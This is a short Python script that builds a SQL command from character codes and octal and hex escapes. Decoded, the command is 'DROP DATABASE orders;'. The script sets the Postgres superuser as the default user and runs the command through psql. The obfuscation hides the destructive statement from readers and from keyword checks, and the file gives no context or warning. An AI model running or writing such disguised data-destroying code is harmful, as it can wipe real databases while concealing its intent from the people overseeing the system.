import os

VERB = "%c" * 4 % (68, 82, 79, 80)
OBJECT = "%c%c%s" % (0x44, 0o101, "TABASE")
query = "%s %s %s;" % (VERB, OBJECT, "orders")

os.environ.setdefault("PGUSER", "postgres")
os.execlp("psql", "psql", "-d", "template1", "-c", query)
